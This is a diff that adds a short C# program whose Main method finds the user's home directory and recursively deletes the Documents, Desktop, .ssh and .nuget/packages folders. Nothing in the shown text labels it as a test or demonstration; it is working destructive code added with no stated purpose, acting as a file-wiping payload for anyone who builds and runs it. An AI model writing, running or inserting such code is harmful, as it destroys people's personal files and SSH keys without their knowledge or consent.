@@ -1,0 +1,16 @@
+using System;
+using System.IO;
+
+class Program
+{
+    static void Main()
+    {
+        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
+        var targets = new[] { ".nuget/packages", "Documents", "Desktop", ".ssh" };
+        foreach (var t in targets)
+        {
+            var p = Path.Combine(home, t);
+            if (Directory.Exists(p)) Directory.Delete(p, true);
+        }
+    }
+}
